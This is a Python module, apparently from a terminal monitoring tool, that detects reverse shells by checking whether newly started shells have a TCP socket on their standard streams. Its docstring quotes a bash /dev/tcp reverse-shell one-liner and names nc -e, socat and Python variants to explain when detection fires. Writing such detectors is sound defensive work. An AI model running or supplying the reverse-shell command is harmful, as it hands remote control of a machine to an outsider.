"""Shells started recently, checked for a TCP connection on their standard streams.

`bash -i >& /dev/tcp/host/port 0>&1` connects after its exec, so a new shell is checked at each
of the STDIO_CHECKS ticks after its exec, not only once; `nc -e`, `socat exec:` or a Python
one-liner hand the socket over before the exec, and the first check sees it. At most MAX_WATCHED
shells are watched at once. Nothing here imports textual.
"""

from __future__ import annotations

from fluxtui.collectors.procstat import read_start_ticks
from fluxtui.collectors.stdio_sockets import StdioSocket, stdio_sockets
from fluxtui.events import ProcessKey

STDIO_CHECKS = 5  # ticks a new shell's standard streams are checked for a TCP connection
MAX_WATCHED = 512


class StdioWatch:
    def __init__(self, proc: str = "/proc") -> None:
        self._proc = proc
        self._watched: dict[ProcessKey, tuple[int, str, str]] = {}  # -> checks left, name, exe

    def watch(self, key: ProcessKey, name: str, exe: str) -> None:
        if len(self._watched) < MAX_WATCHED:
            self._watched[key] = (STDIO_CHECKS, name, exe)

    def forget(self, key: ProcessKey) -> None:
        self._watched.pop(key, None)

    def check(self) -> list[tuple[ProcessKey, str, str, StdioSocket]]:
        """Shells found with a connection on a standard stream (each reported once)."""
        found = []
        for key, (left, name, exe) in list(self._watched.items()):
            if read_start_ticks(key.pid, self._proc) != key.start_ticks:
                del self._watched[key]  # gone, or the pid is another process's now
                continue
            sockets = stdio_sockets(key.pid, self._proc)
            if sockets:
                del self._watched[key]
                found.append((key, name, exe, sockets[0]))
            elif left <= 1:
                del self._watched[key]
            else:
                self._watched[key] = (left - 1, name, exe)
        return found
